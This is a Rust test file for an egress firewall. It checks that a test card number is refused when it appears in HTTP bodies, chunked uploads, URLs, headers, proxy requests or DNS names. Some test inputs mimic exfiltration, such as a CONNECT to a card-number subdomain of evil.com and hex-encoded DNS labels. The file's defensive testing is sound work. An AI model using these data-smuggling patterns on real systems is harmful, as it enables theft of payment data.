//! What may not leave: found in requests before a byte of them is sent, and in names before they are answered.

use std::sync::Arc;

use nanoclaw_firewall::filter::Intent;
use nanoclaw_firewall::{Firewall, Settings};
use tokio::io::AsyncWriteExt as _;

use crate::origin::{OK, Origin, Script};
use crate::world::{World, generation, host, say, until};

const CARD: &str = "4111 1111 1111 1111";

/// A firewall that lets no sensitive data out.
fn strict() -> Arc<Firewall> {
    let mut settings = Settings::default();
    Intent::NoSensitiveOutput.apply(&mut settings);
    Arc::new(Firewall::new(&settings).unwrap())
}

/// A world where api.bank.com is allowed, behind this firewall.
async fn bank(firewall: Arc<Firewall>) -> (World, Origin) {
    let world = World::under(generation([host("api.bank.com")], "", [], []).with_firewall(firewall));
    let origin = Origin::new(Script::Reply(OK)).await;
    world.publish("api.bank.com", 80, origin.address);
    (world, origin)
}

fn post(body: &str) -> String {
    let length = body.len();
    format!("POST /x HTTP/1.1\r\nHost: api.bank.com\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{body}")
}

/// Nothing in a record is part of what was to leave.
async fn nowhere_on_record(world: &World) {
    for record in world.records().await {
        let text = record.to_string();
        assert!(!text.contains("4111") && !text.contains("1111 1"), "{text}");
    }
}

#[tokio::test]
async fn a_body_with_a_card_is_refused_before_a_byte_of_it_is_sent() {
    let (world, origin) = bank(strict()).await;
    let mut stream = world.connect_to("api.bank.com", 80).await;
    let answer = say(&mut stream, post(&format!("{{\"card\": \"{CARD}\"}}")).as_bytes()).await;
    assert!(answer.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{answer}");
    assert!(answer.contains("x-nanoclaw-refusal: content-refused\r\n"), "{answer}");
    assert!(answer.contains("the body holds what may not leave: `card` (bytes 10 to 29)"), "{answer}");
    world.refusal("http_request", "content-refused").await;
    nowhere_on_record(&world).await;
    assert!(origin.seen().iter().all(String::is_empty), "{:?}", origin.seen());
}

#[tokio::test]
async fn a_card_over_several_chunks_is_one_card() {
    let (world, origin) = bank(strict()).await;
    let mut stream = world.connect_to("api.bank.com", 80).await;
    let request = "POST /x HTTP/1.1\r\nHost: api.bank.com\r\nTransfer-Encoding: chunked\r\n\r\n\
                   8\r\n4111 111\r\nb\r\n1 1111 1111\r\n0\r\n\r\n";
    let answer = say(&mut stream, request.as_bytes()).await;
    assert!(answer.contains("`card` (bytes 0 to 19)"), "{answer}");
    world.refusal("http_request", "content-refused").await;
    assert!(origin.seen().iter().all(String::is_empty), "{:?}", origin.seen());
}

#[tokio::test]
async fn what_may_leave_arrives_as_it_was_sent_in_either_framing() {
    let (world, origin) = bank(strict()).await;
    let mut stream = world.connect_to("api.bank.com", 80).await;
    let chunked = "POST /x HTTP/1.1\r\nHost: api.bank.com\r\nTransfer-Encoding: chunked\r\n\r\n\
                   5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n";
    stream.write_all(chunked.as_bytes()).await.unwrap();
    assert_eq!(until(&mut stream, "\r\n\r\nok").await, OK);
    let answer = say(&mut stream, post("4111 1111 1111").as_bytes()).await;
    assert!(answer.starts_with("HTTP/1.1 200 OK\r\n"), "{answer}");
    assert_eq!(origin.seen().concat(), format!("{chunked}{}", post("4111 1111 1111")));
}

#[tokio::test]
async fn a_client_that_waits_to_continue_is_told_to() {
    let (world, _origin) = bank(strict()).await;
    let mut stream = world.connect_to("api.bank.com", 80).await;
    let head = "POST /x HTTP/1.1\r\nHost: api.bank.com\r\nContent-Length: 19\r\nExpect: 100-continue\r\n\r\n";
    stream.write_all(head.as_bytes()).await.unwrap();
    assert_eq!(until(&mut stream, "\r\n\r\n").await, "HTTP/1.1 100 Continue\r\n\r\n");
    let answer = say(&mut stream, CARD.as_bytes()).await;
    assert!(answer.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{answer}");
}

#[tokio::test]
async fn a_body_that_is_too_large_to_be_held_is_refused_by_its_length_alone() {
    let (world, origin) = bank(strict()).await;
    let mut stream = world.connect_to("api.bank.com", 80).await;
    let head = "POST /x HTTP/1.1\r\nHost: api.bank.com\r\nContent-Length: 1048577\r\n\r\n";
    stream.write_all(head.as_bytes()).await.unwrap();
    let told = until(&mut stream, "send it in parts\n").await;
    assert!(told.contains("a body of more than 1048576 bytes cannot be searched"), "{told}");
    world.refusal("http_request", "content-refused").await;
    assert!(origin.seen().iter().all(String::is_empty), "{:?}", origin.seen());
}

#[tokio::test]
async fn a_chunked_body_without_end_is_refused_at_the_same_size() {
    let (world, origin) = bank(strict()).await;
    let mut stream = world.connect_to("api.bank.com", 80).await;
    let head = "POST /x HTTP/1.1\r\nHost: api.bank.com\r\nTransfer-Encoding: chunked\r\n\r\n";
    let chunks = format!("10000\r\n{}\r\n", "a".repeat(0x10000)).repeat(17);
    let answer = say(&mut stream, format!("{head}{chunks}").as_bytes()).await;
    assert!(answer.contains("a body of more than 1048576 bytes cannot be searched"), "{answer}");
    assert!(origin.seen().iter().all(String::is_empty));
}

#[tokio::test]
async fn an_address_and_a_header_field_with_a_card_open_no_connection() {
    for request in [
        "GET /4111-1111-1111-1111 HTTP/1.1\r\nHost: api.bank.com\r\n\r\n",
        "GET /x?n=4111%201111%201111%201111 HTTP/1.1\r\nHost: api.bank.com\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: api.bank.com\r\nX-Note: 4111 1111 1111 1111\r\n\r\n",
    ] {
        let (world, origin) = bank(strict()).await;
        let mut stream = world.connect_to("api.bank.com", 80).await;
        let answer = say(&mut stream, request.as_bytes()).await;
        assert!(answer.starts_with("HTTP/1.1 403 Forbidden\r\n") && answer.contains("`card`"), "{answer}");
        world.refusal("http_request", "content-refused").await;
        nowhere_on_record(&world).await;
        assert_eq!((world.dials(), origin.seen()), (Vec::new(), Vec::new()), "{request}");
    }
}

#[tokio::test]
async fn the_proxy_reads_what_it_is_given_too() {
    let (world, _origin) = bank(strict()).await;
    let mut stream = world.connect_to_proxy().await;
    let request = "GET http://api.bank.com/?n=4111111111111111 HTTP/1.1\r\nHost: api.bank.com\r\n\r\n";
    assert!(say(&mut stream, request.as_bytes()).await.contains("`card`"));
    let mut stream = world.connect_to_proxy().await;
    let tunnel = "CONNECT 4111111111111111.evil.com:443 HTTP/1.1\r\n\r\n";
    assert!(say(&mut stream, tunnel.as_bytes()).await.contains("the name holds what may not leave: `card`"));
    nowhere_on_record(&world).await;
    assert!(world.dials().is_empty() && world.lookups().is_empty());
}

#[tokio::test]
async fn a_name_with_a_card_is_answered_as_one_that_is_not_there() {
    let (world, _origin) = bank(strict()).await;
    for name in ["4111111111111111.bank.com", "34313131313131.313131313131313131.bank.com"] {
        let answer = world.ask(name, 1).await;
        assert_eq!(answer[3] & 0xf, 3, "NXDOMAIN for {name}");
    }
    assert_eq!(world.story().await, ["net_resolve denied content-refused"; 2]);
    let records = world.records().await;
    assert_eq!(records[0]["resource"], "redacted.bank.com", "{}", records[0]);
    nowhere_on_record(&world).await;
}

#[tokio::test]
async fn a_reload_decides_about_the_next_request() {
    let (world, origin) = bank(Firewall::unconfigured()).await;
    let mut stream = world.connect_to("api.bank.com", 80).await;
    let request = post(CARD).replace("Connection: close\r\n", "");
    stream.write_all(request.as_bytes()).await.unwrap();
    assert_eq!(until(&mut stream, "\r\n\r\nok").await, OK, "nothing is asked for, so it leaves");
    world.reload(generation([host("api.bank.com")], "", [], []).with_firewall(strict()));
    let answer = say(&mut stream, request.as_bytes()).await;
    assert!(answer.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{answer}");
    assert_eq!(origin.seen(), [request]);
}
